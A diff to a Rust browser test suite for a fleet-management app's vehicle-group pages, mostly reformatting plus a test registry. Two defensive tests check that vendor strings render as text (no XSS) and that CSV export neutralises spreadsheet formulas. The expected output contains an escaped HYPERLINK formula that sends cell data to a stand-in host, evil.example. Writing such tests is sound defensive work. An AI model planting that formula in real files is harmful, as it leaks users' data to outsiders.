@@ -4,24 +4,36 @@
 use fleet_e2e::{ensure, Browser, Env, TestResult};
 use serde_json::{json, Value};
 
-use crate::{pinned_ids, shipped_config, sim_group, VEHIZEN_KEY};
+use fleet_e2e::fixtures::{pinned_ids, shipped_config, sim_group, VEHIZEN_AUTH};
 
 const GROUPS: &str = "/vehizen/api/v2/CustomerGroup";
 
 fn plates(group: &Value) -> Vec<String> {
-    let mut p: Vec<String> = group["Vehicles"].as_array().into_iter().flatten().filter_map(|v| v["LicencePlate"].as_str().map(str::to_string)).collect();
+    let mut p: Vec<String> = group["Vehicles"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .filter_map(|v| v["LicencePlate"].as_str().map(str::to_string))
+        .collect();
     p.sort();
     p
 }
 
 fn unique(prefix: &str) -> String {
-    format!("{prefix} {}", std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_micros() % 1_000_000).unwrap_or(0))
+    format!(
+        "{prefix} {}",
+        std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .map(|d| d.as_micros() % 1_000_000)
+            .unwrap_or(0)
+    )
 }
 
 pub async fn create_group_is_held_by_the_simulator_and_shown_at_its_url(b: &Browser, env: &Env) -> TestResult {
     b.goto("/groups/new").await?;
     b.wait_for("[data-test=group-form]").await?;
-    let default_customer = shipped_config()?["vendors"]["vehizen"]["defaultCustomerId"].as_str().unwrap_or_default().to_string();
+    let default_customer =
+        shipped_config()?["vendors"]["vehizen"]["defaultCustomerId"].as_str().unwrap_or_default().to_string();
     ensure(b.value("#group-customer").await? == default_customer, "customer id not prefilled from the configuration")?;
     b.screenshot("group-new").await?;
     let name = unique("Tournées Nantes");
@@ -62,7 +74,10 @@ pub async fn move_vehicles_between_groups_and_save_exact_membership(b: &Browser,
     expected.sort();
     ensure(plates(&sim_group(env, &target)?) == expected, format!("membership differs; expected {expected:?}"))?;
     // Moving: the vehicle left its old group.
-    ensure(!plates(&sim_group(env, &source)?).contains(&added) && source_before.contains(&added), "vehicle not moved out of its group")?;
+    ensure(
+        !plates(&sim_group(env, &source)?).contains(&added) && source_before.contains(&added),
+        "vehicle not moved out of its group",
+    )?;
     ensure(env.requests(GROUPS)?.iter().filter(|r| r["method"] == "PUT").count() == 1, "expected exactly one PUT")
 }
 
@@ -76,11 +91,14 @@ pub async fn refusals_show_errors_and_keep_the_input(b: &Browser, env: &Env) -> 
     b.click("[data-test=save]").await?;
     ensure(b.text("[data-test=error-name]").await?.contains("Enter a name"), "no inline name error")?;
     ensure(b.text("[data-test=error-customer]").await?.contains("GUID"), "no inline customer error")?;
-    let writes = |env: &Env| -> Result<Vec<Value>, String> { Ok(env.requests(GROUPS)?.into_iter().filter(|r| r["method"] != "GET").collect()) };
+    let writes = |env: &Env| -> Result<Vec<Value>, String> {
+        Ok(env.requests(GROUPS)?.into_iter().filter(|r| r["method"] != "GET").collect())
+    };
     ensure(writes(env)?.is_empty(), format!("an invalid form was sent: {:?}", writes(env)?))?;
     ensure(b.value("#group-customer").await? == "not-a-guid", "input lost")?;
     // A duplicate name: the simulator's own error, next to the name.
-    let customer = shipped_config()?["vendors"]["vehizen"]["defaultCustomerId"].as_str().unwrap_or_default().to_string();
+    let customer =
+        shipped_config()?["vendors"]["vehizen"]["defaultCustomerId"].as_str().unwrap_or_default().to_string();
     b.fill("#group-customer", &customer).await?;
     b.fill("#group-name-input", &existing.to_uppercase()).await?;
     b.click("[data-test=save]").await?;
@@ -157,7 +175,7 @@ pub async fn vendor_strings_render_as_text(b: &Browser, env: &Env) -> TestResult
     ensure(b.count("main img").await? == 0, "vendor text became an element")?;
     let xss = b.client.execute("return typeof window.__xss;", vec![]).await.map_err(|e| e.to_string())?;
     ensure(xss == json!("undefined"), format!("window.__xss is {xss}"))?;
-    let _ = VEHIZEN_KEY;
+    let _ = VEHIZEN_AUTH;
     Ok(())
 }
 
@@ -189,6 +207,23 @@ pub async fn exported_csv_neutralises_formulas(b: &Browser, env: &Env) -> TestRe
     let csv = csv.as_str().unwrap_or_default().to_string();
     ensure(!csv.is_empty(), "no CSV was exported")?;
     let row = csv.lines().nth(1).ok_or(format!("no data row in {csv:?}"))?;
-    ensure(row.starts_with("'@SUM(1),\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A2,\"\"Open\"\")\","), format!("formulas not neutralised: {row}"))?;
+    ensure(
+        row.starts_with("'@SUM(1),\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A2,\"\"Open\"\")\","),
+        format!("formulas not neutralised: {row}"),
+    )?;
     ensure(row.contains(",'-2+3 x,VF1XSS00000000002,"), format!("brand cell not neutralised: {row}"))
+}
+
+/// This file's browser tests, in the order they run.
+pub fn tests() -> Vec<(&'static str, fleet_e2e::BrowserTest)> {
+    fleet_e2e::browser_tests![
+        create_group_is_held_by_the_simulator_and_shown_at_its_url,
+        move_vehicles_between_groups_and_save_exact_membership,
+        refusals_show_errors_and_keep_the_input,
+        reload_mid_edit_offers_and_restores_the_draft,
+        double_click_on_save_sends_exactly_one_post,
+        reset_after_put_applied_says_outcome_unknown_and_rereads,
+        vendor_strings_render_as_text,
+        exported_csv_neutralises_formulas,
+    ]
 }
